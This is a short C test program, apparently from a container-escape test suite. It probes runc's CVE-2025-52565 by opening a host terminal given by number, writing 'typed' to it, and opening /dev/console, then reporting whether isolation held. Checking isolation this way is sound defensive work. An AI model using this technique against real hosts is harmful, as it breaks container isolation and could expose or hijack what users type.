/* SPDX-License-Identifier: Apache-2.0 */
/* Opens a terminal of the host by its number, and the console, to read what is typed there and to write on it (runc's CVE-2025-52565). */
#include "../attack.h"

int main(int argc, char **argv) {
  const char *path = argument(argc, argv, 1);
  int console = open("/dev/console", O_RDWR | O_NOCTTY | O_NONBLOCK), error = errno;
  int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
  if (fd >= 0) {
    step(write(fd, "typed", 5), "writing to it");
    worked("wrote on %s", path);
  }
  if (console >= 0)
    worked("opened the console");
  held("%s: %s; /dev/console: %s", path, error_name(errno), error_name(error));
}
